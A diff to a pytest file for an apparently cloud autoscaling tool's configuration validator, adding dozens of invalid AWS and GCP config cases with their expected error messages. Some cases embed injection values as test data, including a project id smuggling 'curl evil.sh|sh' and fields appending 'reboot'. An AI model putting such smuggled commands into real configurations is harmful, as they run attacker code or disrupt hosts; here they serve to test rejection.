@@ -12,6 +12,7 @@ from tidefleet.config import ConfigError, known_environments, load_environment, 
 
 ROOT = Path(__file__).resolve().parents[1] / "environments"
 BASE = tomllib.loads((ROOT / "dev.toml").read_text())
+GCP_BASE = tomllib.loads((ROOT / "gcp-dev.toml").read_text())
 
 
 def test_every_shipped_environment_loads():
@@ -28,9 +29,9 @@ def test_prod_has_cpu_and_gpu_pools_and_prioritised_queues():
     assert env.state.backend == "s3" and env.state.lock_table
 
 
-def _with(**changes):
-    """dev.toml with nested changes, e.g. _with(**{"pools.cpu.max": -1}); None deletes."""
-    data = copy.deepcopy(BASE)
+def _with(base=BASE, **changes):
+    """dev.toml (or `base`) with nested changes, e.g. _with(**{"pools.cpu.max": -1}); None deletes."""
+    data = copy.deepcopy(base)
     for dotted, value in changes.items():
         *parents, leaf = dotted.split(".")
         node = data
@@ -50,7 +51,7 @@ BAD = [
     ("empty instance list", {"pools.cpu.instance_types": []}, "pools.cpu.instance_types: List should have at least 1 item"),
     ("negative item timeout", {"queues.default.item_timeout_s": -5}, "queues.default.item_timeout_s: Input should be greater than or equal to 1 (got -5)"),
     ("negative idle timeout", {"pools.cpu.idle_timeout_s": -1}, "pools.cpu.idle_timeout_s: Input should be greater than or equal to 0"),
-    ("bad region", {"region": "us-east"}, "region: not a aws region (got 'us-east')"),
+    ("bad region", {"region": "us-east"}, "region: not a known aws region (got 'us-east'); use one like 'us-east-1'"),
     ("unknown top-level key", {"regoin": "us-east-1"}, "regoin: unknown key"),
     ("unknown pool key", {"pools.cpu.max_nodes": 3}, "pools.cpu.max_nodes: unknown key"),
     ("string for int", {"pools.cpu.max": "10"}, "pools.cpu.max: Input should be a valid integer (got '10')"),
@@ -75,15 +76,104 @@ BAD = [
     ("gcp without project", {"cloud": "gcp", "region": "us-central1", "pools.cpu.instance_types": [{"type": "n2-standard-4"}], "pools.cpu.image": "projects/debian-cloud/global/images/family/debian-12"}, "project: required when cloud = 'gcp'"),
     ("no pools", {"pools": {}}, "pools: Dictionary should have at least 1 item"),
     ("wrong type for tags", {"tags": "ml"}, "tags: Input should be a valid dictionary (got 'ml')"),
-    ("bad vpc cidr", {"network.vpc_cidr": "10.0.0.0/8"}, "network.vpc_cidr: String should match pattern"),
-    ("aws tag prefix", {"tags": {"aws:owner": "me"}}, "tags.aws:owner: not a valid tag"),
+    ("vpc cidr too big for the stack", {"network.vpc_cidr": "10.0.0.0/8"}, "network.vpc_cidr: must be an IPv4 network from /16 to /24 (got '10.0.0.0/8')"),
+    ("aws tag prefix", {"tags": {"aws:owner": "me"}}, "tags.aws:owner: reserved tag key (got 'aws:owner')"),
+    # regions: a list, not a pattern
+    ("region that looks real", {"region": "us-north-9"}, "region: not a known aws region (got 'us-north-9')"),
+    ("region with a trailing newline", {"region": "us-east-1\n"}, "region: not a known aws region (got 'us-east-1\\n')"),
+    ("gcp region on aws", {"region": "us-central1"}, "region: not a known aws region (got 'us-central1')"),
+    ("state region unknown", {"state": {"backend": "s3", "bucket": "acme-state", "region": "eu-middle-1"}}, "state.region: not a known aws region (got 'eu-middle-1')"),
+    ("state bucket not a bucket name", {"state": {"backend": "s3", "bucket": "Acme_State"}}, "state.bucket: not a bucket name (got 'Acme_State')"),
+    # derived names must fit the cloud's limits
+    ("environment name overflows the S3 bucket", {"name": "a" * 31}, f"name: the S3 artifacts bucket (with a 12-digit account id) name 'tidefleet-{'a' * 31}-artifacts-123456789012' is 64 characters; AWS allows 3-63 (got environment name '{'a' * 31}'); shorten the environment name by 1 character"),
+    ("pool name overflows the node's IAM role", {"name": "e" * 30, "pools.cpu": None, "pools.inference-gpu-large": BASE["pools"]["cpu"], "queues.default.pool": "inference-gpu-large"}, f"pools.inference-gpu-large: the IAM role name 'tidefleet-{'e' * 30}-inference-gpu-large-node' is 65 characters; AWS allows 1-64 (got pool name 'inference-gpu-large'); shorten the pool name or the environment name by 1 character"),
+    ("environment name with an uppercase letter", {"name": "Dev"}, "name: bad environment name (got 'Dev')"),
+    # sizes and numbers
+    ("pool max beyond an Auto Scaling group", {"pools.cpu.max": 20000}, "pools.cpu.max: 20000 nodes of weight 1 is over the 10000 of an Auto Scaling group (got 20000)"),
+    ("infinite spot max price", {"pools.cpu.spot_max_price": float("inf")}, "pools.cpu.spot_max_price: Input should be a finite number (got inf)"),
+    ("nan on-demand price", {"pools.cpu.instance_types": [{"type": "c6i.large", "on_demand_price": float("nan")}]}, "pools.cpu.instance_types[0].on_demand_price: Input should be a finite number (got nan)"),
+    ("infinite cost cap", {"scaler.cost_cap_usd_per_hour": float("inf")}, "scaler.cost_cap_usd_per_hour: Input should be a finite number (got inf)"),
+    ("boot estimate above boot timeout", {"pools.cpu.boot_estimate_s": 900}, "pools.cpu.boot_estimate_s: must be <= boot_timeout_s (got 900 > 600)"),
+    ("boot timeout too short", {"pools.cpu.boot_timeout_s": 10}, "pools.cpu.boot_timeout_s: Input should be greater than or equal to 30 (got 10)"),
+    ("zero tick", {"scaler.tick_s": 0}, "scaler.tick_s: Input should be greater than or equal to 1 (got 0)"),
+    ("negative tick", {"scaler.tick_s": -60}, "scaler.tick_s: Input should be greater than or equal to 1 (got -60)"),
+    ("negative scale-in delay", {"scaler.scale_in_delay_s": -1}, "scaler.scale_in_delay_s: Input should be greater than or equal to 0 (got -1)"),
+    ("negative cooldown", {"scaler.scale_out_cooldown_s": -30}, "scaler.scale_out_cooldown_s: Input should be greater than or equal to 0 (got -30)"),
+    ("negative spot fallback", {"scaler.spot_fallback_after_s": -1}, "scaler.spot_fallback_after_s: Input should be greater than or equal to 0 (got -1)"),
+    ("negative spot failure window", {"scaler.spot_failure_window_s": -1}, "scaler.spot_failure_window_s: Input should be greater than or equal to 0 (got -1)"),
+    ("scale-in delay of years", {"scaler.scale_in_delay_s": 10**9}, "scaler.scale_in_delay_s: Input should be less than or equal to 86400 (got 1000000000)"),
+    ("zero item timeout", {"queues.default.item_timeout_s": 0}, "queues.default.item_timeout_s: Input should be greater than or equal to 1 (got 0)"),
+    ("negative boot estimate", {"pools.cpu.boot_estimate_s": -5}, "pools.cpu.boot_estimate_s: Input should be greater than or equal to 0 (got -5)"),
+    # what runs per item
+    ("command with an unclosed quote", {"pools.cpu.command": "python3 -c 'print(1)"}, "pools.cpu.command: not shell words (No closing quotation) (got \"python3 -c 'print(1)\")"),
+    ("empty command", {"pools.cpu.command": ""}, "pools.cpu.command: empty (got '')"),
+    ("blank command", {"pools.cpu.command": "  \t "}, "pools.cpu.command: empty (got '  \\t ')"),
+    ("container with uppercase repository", {"pools.cpu.command": None, "pools.cpu.container": "ghcr.io/Acme/train:1.0"}, "pools.cpu.container: not an image reference (got 'ghcr.io/Acme/train:1.0')"),
+    ("container with a shell command", {"pools.cpu.command": None, "pools.cpu.container": "train:1.0; reboot"}, "pools.cpu.container: not an image reference (got 'train:1.0; reboot')"),
+    ("container with an empty tag", {"pools.cpu.command": None, "pools.cpu.container": "ubuntu:"}, "pools.cpu.container: not an image reference (got 'ubuntu:')"),
+    ("container with a short digest", {"pools.cpu.command": None, "pools.cpu.container": "ubuntu@sha256:abc"}, "pools.cpu.container: not an image reference (got 'ubuntu@sha256:abc')"),
+    ("container tag over 128 characters", {"pools.cpu.command": None, "pools.cpu.container": "ubuntu:" + "t" * 129}, "pools.cpu.container: not an image reference (got 'ubuntu:ttt"),
+    ("container with a leading slash", {"pools.cpu.command": None, "pools.cpu.container": "/ubuntu"}, "pools.cpu.container: not an image reference (got '/ubuntu')"),
+    ("init script ending the boot script's heredoc", {"pools.cpu.init_script": "echo hi\nTIDEFLEET_INIT_SCRIPT\nreboot"}, "pools.cpu.init_script: may not contain TIDEFLEET_INIT_SCRIPT (got 'echo hi\\nTIDEFLEET_INIT_SCRIPT\\nreboot')"),
+    ("init script with a NUL", {"pools.cpu.init_script": "echo \0"}, "pools.cpu.init_script: may not contain a NUL character (got 'echo \\x00')"),
+    ("env value with a newline", {"pools.cpu.env": {"A": "one\ntwo"}}, "pools.cpu.env.A: a value must be one line without NUL (got 'one\\ntwo')"),
+    ("env value with a carriage return", {"pools.cpu.env": {"A": "one\rtwo"}}, "pools.cpu.env.A: a value must be one line without NUL (got 'one\\rtwo')"),
+    ("env value with a NUL", {"pools.cpu.env": {"A": "x\0"}}, "pools.cpu.env.A: a value must be one line without NUL (got 'x\\x00')"),
+    ("env name with a trailing newline", {"pools.cpu.env": {"A\n": "x"}}, "pools.cpu.env.A\n: not a usable variable name (got 'A\\n')"),
+    # tags
+    ("tag key tidefleet sets itself", {"tags": {"tidefleet:env": "x"}}, "tags.tidefleet:env: reserved tag key (got 'tidefleet:env')"),
+    ("tag key with a character AWS refuses", {"tags": {"owner!": "me"}}, "tags.owner!: not an AWS tag key (got 'owner!')"),
+    ("tag key over 128 characters", {"tags": {"k" * 129: "v"}}, f"tags.{'k' * 129}: not an AWS tag key (got '{'k' * 129}')"),
+    ("tag value over 256 characters", {"tags": {"owner": "v" * 257}}, f"tags.owner: not an AWS tag value (got '{'v' * 257}')"),
+    ("tag value with a newline", {"tags": {"owner": "me\n"}}, "tags.owner: not an AWS tag value (got 'me\\n')"),
+    # names with a trailing newline (re.match(...$) accepted them)
+    ("pool name with a trailing newline", {"pools.cpu\n": BASE["pools"]["cpu"], "pools.cpu": None, "queues.default.pool": "cpu\n"}, "pools.cpu\n: bad name (got 'cpu\\n')"),
+    ("queue name with a trailing newline", {"queues.q\n": {"pool": "cpu"}}, "queues.q\n: bad name (got 'q\\n')"),
+    ("team with a trailing newline", {"pools.cpu.team": "ml\n"}, "pools.cpu.team: bad team name (got 'ml\\n')"),
+    ("queue team with a space", {"queues.default.team": "ml ops"}, "queues.default.team: bad team name (got 'ml ops')"),
+    ("instance type with a trailing newline", {"pools.cpu.instance_types": [{"type": "c6i.large\n"}]}, "pools.cpu.instance_types[0].type: not a aws instance type (got 'c6i.large\\n')"),
+    ("AMI id with a trailing newline", {"pools.cpu.image": "ami-0123456789abcdef0\n"}, "pools.cpu.image: not an AMI id or ssm:/ parameter (got 'ami-0123456789abcdef0\\n')"),
+    # networks
+    ("cidr with host bits set", {"network.vpc_cidr": "10.80.0.1/16"}, "network.vpc_cidr: not a network (got '10.80.0.1/16')"),
+    ("cidr prefix 33", {"network.vpc_cidr": "10.80.0.0/33"}, "network.vpc_cidr: not a network (got '10.80.0.0/33')"),
+    ("cidr octet 300", {"network.vpc_cidr": "10.300.0.0/16"}, "network.vpc_cidr: not a network (got '10.300.0.0/16')"),
+    ("ipv6 cidr", {"network.vpc_cidr": "fd00::/48"}, "network.vpc_cidr: must be an IPv4 network from /16 to /24 (got 'fd00::/48')"),
+    ("subnet that is not a subnet id", {"network.subnet_ids": ["subnet-xyz"]}, "network.subnet_ids[0]: not a aws subnet (got 'subnet-xyz')"),
+]
+
+GCP_BAD = [
+    ("project id with a newline and a command", {"project": "acme-ml-dev\ncurl evil.sh|sh"}, "project: not a GCP project id (got 'acme-ml-dev\\ncurl evil.sh|sh')"),
+    ("project id too short", {"project": "acme"}, "project: not a GCP project id (got 'acme')"),
+    ("project id with uppercase", {"project": "Acme-ML"}, "project: not a GCP project id (got 'Acme-ML')"),
+    ("project id with quotes", {"project": 'acme"; reboot; "'}, "project: not a GCP project id (got 'acme\"; reboot; \"')"),
+    ("aws region on gcp", {"region": "us-east-1"}, "region: not a known gcp region (got 'us-east-1'); use one like 'us-central1'"),
+    ("gcp region that looks real", {"region": "us-central9"}, "region: not a known gcp region (got 'us-central9')"),
+    ("pool max beyond a regional MIG", {"pools.cpu.max": 2001}, "pools.cpu.max: 2001 nodes of weight 1 is over the 2000 of a regional managed instance group (got 2001)"),
+    ("bucket name with google in it", {"name": "google-ml"}, "name: the Cloud Storage bucket name 'tidefleet-google-ml-artifacts-acme-ml-dev' is not lowercase a-z, 0-9, '_.-', without 'google' (got environment name 'google-ml'); change the environment name"),
+    ("long project and environment overflow the bucket", {"name": "team-research", "project": "acme-machine-learning-research"}, "name: the Cloud Storage bucket name 'tidefleet-team-research-artifacts-acme-machine-learning-research' is 64 characters; GCP allows 3-63 (got environment name 'team-research'); shorten the environment name by 1 character"),
+    ("pool name ending with a hyphen", {"pools.cpu-": GCP_BASE["pools"]["cpu"], "pools.cpu": None, "queues.default.pool": "cpu-"}, "pools.cpu-: the managed instance group name 'tidefleet-gcp-dev-cpu-' is not lowercase a-z, 0-9 and '-', starting with a letter and not ending with '-' (got pool name 'cpu-'); change the pool name"),
+    ("long pool name overflows the VM base name", {"pools.batch-inference-cpu-pool": GCP_BASE["pools"]["cpu"], "pools.cpu": None, "queues.default.pool": "batch-inference-cpu-pool", "name": "research-team-dev-east"}, "pools.batch-inference-cpu-pool: the MIG base instance name 'tidefleet-research-team-dev-east-batch-inference-cpu-pool-od' is 60 characters; GCP allows 1-58 (got pool name 'batch-inference-cpu-pool'); shorten the pool name or the environment name by 2 characters"),
+    ("tag key in uppercase", {"tags": {"Owner": "ml"}}, "tags.Owner: not a GCP label key (got 'Owner')"),
+    ("tag value with a space", {"tags": {"owner": "ml dev"}}, "tags.owner: not a GCP label value (got 'ml dev')"),
+    ("tag value over 63 characters", {"tags": {"owner": "v" * 64}}, f"tags.owner: not a GCP label value (got '{'v' * 64}')"),
+    ("tag key tidefleet's labels use", {"tags": {"tidefleet-env": "x"}}, "tags.tidefleet-env: reserved tag key (got 'tidefleet-env')"),
+    ("accelerator type with a space", {"pools.gpu.instance_types": [{"type": "g2-standard-8", "weight": 1, "gpus": 1, "accelerator": "NVIDIA L4"}]}, "pools.gpu.instance_types[0].accelerator: not a GCP accelerator type (got 'NVIDIA L4')"),
+    ("image with a trailing newline", {"pools.cpu.image": "projects/debian-cloud/global/images/family/debian-12\n"}, "pools.cpu.image: not a GCE image (got 'projects/debian-cloud/global/images/family/debian-12\\n')"),
+]
+CASES = [(case, "dev", change, expected) for case, change, expected in BAD] + [
+    (f"gcp: {case}", "gcp-dev", change, expected) for case, change, expected in GCP_BAD
 ]
 
 
-@pytest.mark.parametrize("case,change,expected", BAD, ids=[c[0] for c in BAD])
-def test_bad_config_names_field_value_and_rule(case, change, expected):
+def test_the_table_covers_at_least_sixty_mistakes():
+    assert len(CASES) >= 60 and len({c[0] for c in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize("case,base,change,expected", CASES, ids=[c[0] for c in CASES])
+def test_bad_config_names_field_value_and_rule(case, base, change, expected):
+    data = _with({"dev": BASE, "gcp-dev": GCP_BASE}[base], **change)
     with pytest.raises(ConfigError) as err:
-        parse_environment(_with(**change), name="dev")
+        parse_environment(data, name=data.get("name", base))
     problems = err.value.problems
     assert any(expected in p for p in problems), f"{expected!r} not in {problems}"
     assert len(problems) == 1, f"one problem, one message: {problems}"
